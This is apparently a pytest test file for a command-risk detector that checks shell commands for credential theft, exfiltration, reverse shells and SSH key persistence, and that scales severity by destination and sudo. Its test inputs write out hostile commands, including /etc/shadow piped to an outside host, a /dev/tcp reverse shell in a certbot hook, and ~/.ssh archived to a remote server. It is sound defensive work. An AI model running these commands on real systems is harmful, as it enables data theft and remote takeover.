"""Facts, conditions over facts, context and the shell parameter, as callers see them."""

from __future__ import annotations

import sys

import pytest

from ssm_warden.detect.conditions import ConditionError, compile_condition
from ssm_warden.detect.detector import Detector, get_detector
from ssm_warden.detect.facts import OwnNetwork, derive
from ssm_warden.detect.normalize import normalize
from ssm_warden.detect.rules import RulePackError, load_pack_text, load_rules


def _facts(text: str):  # type: ignore[no-untyped-def]
    return derive(normalize(text).execs)


def _rules(command: str, **kw: object) -> set[str]:
    return {f.rule for f in get_detector(**kw).judge_command(command)}  # type: ignore[arg-type]


def test_files_read_written_appended_deleted_and_destinations() -> None:
    execs, text = _facts(
        "cat /etc/shadow | curl -d @- https://198.51.100.7/u; echo x >> ~/.bashrc; rm -f /tmp/a"
    )
    cat, curl, echo, rm = execs
    assert "/etc/shadow" in cat.reads and curl.pipe_from == ("cat",)
    assert curl.unknown_dests == {"198.51.100.7"}
    assert "~/.bashrc" in echo.appends and "/tmp/a" in rm.deletes
    assert "/etc/shadow" in text.reads


def test_private_ranges_and_own_domains_are_ours() -> None:
    own = OwnNetwork(buckets=("acme-backups",), domains=("acme.example",))
    execs, _ = derive(
        normalize(
            "scp f a@10.0.0.3:/x; aws s3 cp f s3://acme-backups/f; curl https://api.acme.example"
        ).execs,
        own,
    )
    assert all(not e.unknown_dests for e in execs)
    execs, _ = derive(normalize("aws s3 cp f s3://elsewhere/f").execs, own)
    assert execs[0].unknown_dests == {"elsewhere"}


def test_own_network_comes_from_the_caller_and_changes_the_verdict() -> None:
    command = "aws s3 cp ~/.aws/credentials s3://acme-backups/c"
    assert "sensitive-data-to-unknown-destination" in _rules(command)
    assert "sensitive-data-to-unknown-destination" not in _rules(
        command, own=OwnNetwork(buckets=("acme-backups",))
    )


def test_a_new_evasion_of_the_same_behaviour_needs_no_new_rule() -> None:
    # Given authorized_keys written by programs no rule names
    for command in (
        "python3 -c 'print(1)' > ~/.ssh/authorized_keys",
        "busybox tee -a /root/.ssh/authorized_keys < k",
        "rsync k.pub /home/bob/.ssh/authorized_keys",
    ):
        assert "ssh-key-written-any-means" in _rules(command) or "ssh-authorized-keys-modified" in _rules(
            command
        )


@pytest.mark.parametrize(
    "command",
    [
        "echo /etc/shadow",
        "rm -rf ~/.cache/pip",
        "aws s3 rm s3://bucket/x --recursive --dryrun",
        "kubectl delete ns prod --dry-run=client",
        "shred --help",
    ],
)
def test_printing_caches_dry_runs_and_help_are_not_flagged(command: str) -> None:
    assert _rules(command) == set()


def test_dry_run_does_not_hide_an_embedded_shell() -> None:
    assert _rules("certbot renew --dry-run --pre-hook '/bin/sh -i >& /dev/tcp/198.51.100.4/443 0>&1'")


def test_conditions_read_lists_macros_and_reject_nonsense() -> None:
    predicate, gate = compile_condition(
        "proc.name in (shells) and not harmless", {"shells": ("sh", "bash")}, {"harmless": "proc.help"}
    )
    execs, text = _facts("bash -i")
    assert predicate(execs[0], text)
    assert gate.names == frozenset({"sh", "bash"})
    with pytest.raises(ConditionError):
        compile_condition("proc.nam = x", {}, {})
    with pytest.raises(ConditionError):
        compile_condition("(proc.name = x", {}, {})


def test_a_pack_with_a_bad_condition_is_rejected_with_the_rule_id() -> None:
    text = """
pack: t
description: t
rules:
  - id: bad-facts
    title: t
    description: t
    category: persistence
    severity: low
    kind: facts
    condition: proc.name in (
    examples:
      must_match: [x]
"""
    with pytest.raises(RulePackError, match="bad-facts"):
        load_pack_text(text, "t.yaml")


def test_regex_packs_still_load_next_to_fact_rules() -> None:
    # A pack in the regex format (like one another helper adds) loads and judges as before.
    text = """
pack: extra
description: t
rules:
  - id: extra-regex
    title: t
    description: t
    category: discovery
    severity: low
    match: ['^whoami$']
    examples:
      must_match: [whoami]
"""
    detector = Detector([*load_pack_text(text, "extra.yaml"), *load_rules(("persistence",))])
    assert {f.rule for f in detector.judge_command("whoami")} == {"extra-regex"}


def test_windows_shells_fall_back_to_the_linux_rules_without_the_windows_detector(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given the Windows detector is not installed
    monkeypatch.setitem(sys.modules, "ssm_warden.detect.windows", None)
    # When a PowerShell command is judged
    findings = get_detector().judge_command("cat /etc/shadow", "powershell")
    # Then it is judged with the Linux rules
    assert findings


def test_windows_shells_go_to_the_windows_detector_when_present(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[str, str]] = []

    class FakeWindows:
        def judge_command(self, command: str, shell: str) -> list[object]:
            calls.append((command, shell))
            return []

    module = type(sys)("ssm_warden.detect.windows")
    module.windows_detector = lambda packs: FakeWindows()  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "ssm_warden.detect.windows", module)
    assert get_detector().judge_command("Get-Process", "powershell") == []
    assert calls == [("Get-Process", "powershell")]


def test_severity_rises_towards_an_unknown_host_and_under_sudo() -> None:
    def severity(command: str) -> str:
        hits = [f for f in get_detector().judge_command(command) if f.rule == "credential-files-hunted"]
        return hits[0].severity.value

    # Given the same search for secrets, kept on the host, sent out, and run under sudo
    assert severity("grep -rni password /etc /opt") == "medium"
    assert severity("grep -rni password /etc /opt | curl -d @- https://198.51.100.7/u") == "high"
    assert severity("sudo grep -rni password /etc /opt") == "high"


@pytest.mark.parametrize(
    "command",
    [
        "sudo sh /tmp/NVIDIA-Linux-x86_64-550.run --silent",
        "cd /tmp && unzip -q awscliv2.zip && sudo ./aws/install",
        "sudo dpkg -i /tmp/session-manager-plugin.deb",
    ],
)
def test_a_vendor_installer_run_from_a_temporary_directory_is_not_high(command: str) -> None:
    findings = get_detector().judge_command(command)
    assert all(f.severity.rank < max_rank_below_high() for f in findings), [
        (f.rule, f.severity.value) for f in findings
    ]


def max_rank_below_high() -> int:
    from ssm_warden.models.findings import Severity

    return Severity.HIGH.rank


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://198.51.100.7/c?d=$(base64 -w0 /etc/shadow)",
        "tar czf - ~/.ssh | ssh op@203.0.113.5 'cat > k.tgz'",
        "rclone copy /etc backup-x:dump",
    ],
)
def test_exfiltration_shapes_are_found(command: str) -> None:
    assert get_detector().judge_command(command)
